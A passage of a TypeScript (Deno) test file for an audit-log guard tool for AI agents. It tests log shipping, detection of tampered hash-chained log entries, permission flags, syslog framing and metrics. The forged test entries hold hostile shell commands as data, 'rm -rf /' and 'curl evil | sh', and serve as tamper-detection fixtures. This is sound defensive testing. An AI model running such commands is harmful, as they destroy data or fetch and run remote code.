    const [a, b] = await Promise.all([write(), write()]);
    assert.ok(a.success && b.success);
    const local = localEntries(dir);
    assert.ok(local.size >= 500);
    const got = () => new Set(records(rx.got).map((x) => Number(attr(x, "guard.seq"))));
    await waitFor("every entry", () => [...local.keys()].every((q) => got().has(q)));
    const events = records(rx.got).filter((x) => attr(x, "guard.event")?.startsWith("ship."));
    assert.deepEqual(events.map(bodyOf), [], "no gap reported");
  } finally {
    s.child.kill("SIGTERM");
    await s.done;
    await rx.server.shutdown();
  }
});

// ── verify --stream ────────────────────────────────────────────────────────

Deno.test("verify --stream: complete in any order with duplicates; a dropped, an edited and an injected entry caught", async () => {
  const { home, dir } = await newHome();
  await seed(dir, 40);
  const rx = otlpReceiver();
  let lines: string[];
  try {
    const r = await runGuard(home, [
      "audit",
      "ship",
      "--to",
      `otlp+http://127.0.0.1:${rx.port}`,
      "--once",
      "--encoding",
      "json",
      "--batch",
      "1",
    ]);
    assert.equal(r.code, 0, r.stderr);
    // The collector's export: one JSON line per request, as it stored them.
    lines = rx.got.requests.map((q) => JSON.stringify(q));
  } finally {
    await rx.server.shutdown();
  }
  const key = vkeyOf(dir);
  const work = await Deno.makeTempDir({ prefix: "guard-stream-" });
  const check = async (name: string, export_: string[]) => {
    const p = `${work}/${name}.jsonl`;
    Deno.writeTextFileSync(p, export_.join("\n") + "\n");
    return await runGuard(home, ["audit", "verify", "--stream", p, "--key", key]);
  };
  // Shuffled, with duplicates (a resend after a lost acknowledgement).
  const shuffled = [...lines, lines[3], lines[10]].reverse();
  let v = await check("ok", shuffled);
  assert.equal(v.code, 0, v.stdout + v.stderr);
  assert.match(
    v.stdout,
    /OK: 41 entries \(seq 0\.\.40\) complete and chained, signed through seq 40; 2 duplicate/,
  );

  // The body of one record, as an entry object.
  const entryAt = (i: number) =>
    JSON.parse(JSON.parse(lines[i]).resourceLogs[0].scopeLogs[0].logRecords[0].body.stringValue);
  const withBody = (i: number, entry: unknown) => {
    const q = JSON.parse(lines[i]);
    q.resourceLogs[0].scopeLogs[0].logRecords[0].body.stringValue = canonicalJson(entry);
    return JSON.stringify(q);
  };
  const rehash = (e: Record<string, unknown>) => {
    const { hash: _h, ...rest } = e;
    return { ...rest, hash: createHash("sha256").update(canonicalJson(rest)).digest("hex") };
  };

  // Through the CLI: a dropped, an edited and an injected entry; the rest through the function.
  const cases: { name: string; export: string[]; want: RegExp; cli?: boolean }[] = [
    {
      name: "dropped",
      export: lines.filter((_, i) => i !== 17),
      want: /entry seq 17 missing before seq 18 \(dropped\)/,
      cli: true,
    },
    {
      name: "dropped-first",
      export: lines.filter((_, i) => i !== 0),
      want: /entry seq 0 missing/,
    },
    {
      name: "edited",
      export: lines.map((l, i) =>
        i === 12 ? withBody(12, { ...entryAt(12), call: "echo harmless" }) : l
      ),
      want: /entry seq 12 edited/,
      cli: true,
    },
    {
      name: "injected-beside",
      // A forged entry for seq 20, re-hashed so it looks whole, next to the real one.
      export: [...lines, withBody(20, rehash({ ...entryAt(20), call: "rm -rf /" }))],
      want: /seq 20 arrives with two different contents/,
      cli: true,
    },
    {
      name: "injected-instead",
      // The real seq 20 removed and a re-hashed forgery in its place: seq 21 no longer links.
      export: lines.map((l, i) =>
        i === 20 ? withBody(20, rehash({ ...entryAt(20), call: "curl evil | sh" })) : l
      ),
      want: /entry seq 21 does not link to entry seq 20/,
    },
    {
      name: "forged-checkpoint",
      // An attacker rewrites the tail and signs with a key of their own.
      export: lines.map((l, i) => {
        const e = entryAt(i);
        if (e.event !== "audit.checkpoint") return l;
        return withBody(
          i,
          rehash({
            ...e,
            call: e.call.replace(/\n— (\S+) \S+\n/, "\n— $1 " + "A".repeat(88) + "AAA=\n"),
          }),
        );
      }),
      want: /not signed by the given key/,
    },
  ];
  const signers = [parseVkey(key)!];
  for (const c of cases) {
    const pure = verifyStream({ text: c.export.join("\n"), signers }, nodeCrypto());
    assert.equal(pure.ok, false, c.name);
    assert.match(pure.problem!, c.want, c.name);
    if (!c.cli) continue;
    v = await check(c.name, c.export);
    assert.equal(v.code, 1, `${c.name}: ${v.stdout}`);
    assert.match(v.stdout, /^TAMPERED: export line \d+: /m, c.name);
    assert.match(v.stdout, c.want, c.name);
  }
  // Another machine's key proves nothing.
  const other = await newHome();
  await seed(other.dir, 1);
  await runGuard(other.home, ["audit", "checkpoint", "--export"]);
  const p = `${work}/ok.jsonl`;
  v = await runGuard(home, ["audit", "verify", "--stream", p, "--key", vkeyOf(other.dir)]);
  assert.equal(v.code, 1, v.stdout);
  assert.match(v.stdout, /not signed by the given key/);
  // stdin works too, and a syslog-style line (the entry after the structured data) is read.
  const syslogLines = [...localEntries(dir).values()].map((line) => {
    const e = JSON.parse(line);
    return syslogMessage(
      {
        kind: "entry",
        seq: e.seq,
        hash: e.hash,
        prev_hash: e.prev_hash,
        line,
        time: e.time,
        action: e.decision.action,
        rule: e.decision.rule,
        event: e.event ?? "",
      },
      { host: "h", user: "u", version: "0" },
      "1",
    );
  });
  v = await runGuard(
    home,
    ["audit", "verify", "--stream", "-", "--key", key],
    syslogLines.join("\n"),
  );
  assert.equal(v.code, 0, v.stdout + v.stderr);
});

// ── flags, formats, stats ──────────────────────────────────────────────────

Deno.test("ship's permissions: the re-launched process gets the network for its destination only; a wider grant is refused", async () => {
  const home = "/home/u";
  const f = taskFlags(home, { net: "127.0.0.1:6514", read: ["/etc/ssl/ca.pem"] });
  assert.ok(f.includes("--allow-net=127.0.0.1:6514"));
  assert.ok(!f.some((x) => x.startsWith("--allow-run")));
  assert.ok(f.includes("--allow-read=/home/u/.aiguard,/etc/ssl/ca.pem"));
  assert.ok(f.includes("--allow-write=/home/u/.aiguard"));
  assert.ok(
    !f.some((x) => /^--allow-(read|write)=/.test(x) && /\.claude|INIT_CWD/.test(x)),
    "no agent configuration",
  );
  assert.ok(f.includes("--allow-env=HOME,PWD,DENO_DIR,USER,LOGNAME"));
  // Run with the whole network: refused before anything is read or sent.
  const { home: h } = await newHome();
  const r = await new Deno.Command(Deno.execPath(), {
    args: [
      "run",
      ...runFlags(h).slice(1),
      "--allow-net",
      MAIN_TS,
      "audit",
      "ship",
      "--to",
      "syslog+tcp://127.0.0.1:9",
    ],
    env: guardEnv(h),
    clearEnv: true,
    stdout: "piped",
    stderr: "piped",
  }).output();
  assert.equal(r.code, 2);
  assert.match(new TextDecoder().decode(r.stderr), /wider than 127\.0\.0\.1:9/);
  // Usage errors.
  for (
    const [args, want] of [
      [["--to", "http://x"], /unsupported scheme/],
      [["--to", "syslog+tcp://h:1", "--encoding", "json"], /--encoding applies/],
      [["--to", "syslog+tcp://h:1", "--ca", "/x"], /--ca applies/],
      [["--to", "otlp+http://h:1", "--follow", "--once"], /exclude each other/],
      [["--to", "otlp+http://u:p@h:1"], /credentials/],
      [["--once"], /--to is required/],
    ] as [string[], RegExp][]
  ) {
    const u = await runGuard(h, ["audit", "ship", ...args]);
    assert.equal(u.code, 2, args.join(" "));
    assert.match(u.stderr, want, args.join(" "));
  }
});

Deno.test("destinations and RFC 5424 framing", () => {
  const cases: [string, string | RegExp][] = [
    ["syslog+tcp://127.0.0.1:5514", "127.0.0.1:5514"],
    ["syslog+tls://logs.example", "logs.example:6514"],
    ["syslog+udp://[::1]:514", "[::1]:514"],
    ["otlp+http://collector:4318", "collector:4318"],
    ["otlp+https://collector", "collector:4318"],
    ["syslog+tcp://h:1/path", /no path/],
    ["otlp+http://h:1/?x=1", /no query/],
    ["ftp://h", /unsupported scheme/],
  ];
  for (const [url, want] of cases) {
    const d = parseDestination(url);
    if (typeof want === "string") {
      assert.ok(typeof d !== "string", url);
      assert.equal((d as { hostPort: string }).hostPort, want, url);
    } else assert.match(d as string, want, url);
  }
  const msg = syslogMessage(
    {
      kind: "entry",
      seq: 7,
      hash: "a".repeat(64),
      prev_hash: "b".repeat(64),
      line: '{"x":1}',
      time: "2026-12-01T00:00:00.000Z",
      action: "block",
      rule: 'we"ird]rule\\',
      event: "PreToolUse",
    },
    { host: "my host", user: "ann", version: "1" },
    "42",
  );
  assert.equal(
    msg,
    `<84>1 2026-12-01T00:00:00.000Z my_host guard 42 audit [guard@32473 seq="7" hash="${
      "a".repeat(64)
    }" prev_hash="${"b".repeat(64)}" action="block" rule="we\\"ird\\]rule\\\\" user="ann"] {"x":1}`,
  );
});

Deno.test("guard stats --prometheus prints the decision counters in the text exposition format", async () => {
  const { home, dir } = await newHome();
  await seed(dir, 10);
  const r = await runGuard(home, ["stats", "--prometheus"]);
  assert.equal(r.code, 0, r.stderr);
  const lines = r.stdout.trimEnd().split("\n");
  for (const l of lines) {
    assert.match(
      l,
      /^(# (HELP|TYPE) guard_[a-z_]+ .+|guard_[a-z_]+(\{[a-z_]+="[^"\\\n]*"(,[a-z_]+="[^"\\\n]*")*\})? \d+(\.\d+)?)$/,
      l,
    );
  }
  const total = lines.filter((l) => l.startsWith("guard_decisions_total{")).reduce(
    (n, l) => n + Number(l.split(" ").pop()),
    0,
  );
  assert.equal(total, 10);
  assert.ok(lines.includes("# TYPE guard_decisions_total counter"));
  assert.ok(
    lines.some((l) =>
      /^guard_rule_decisions_total\{rule="abs\.guard-state",action="block"\} 2$/.test(l)
    ),
  );
  assert.ok(lines.includes("guard_audit_entries 10"));
  const both = await runGuard(home, ["stats", "--prometheus", "--json"]);
  assert.equal(both.code, 2);
});
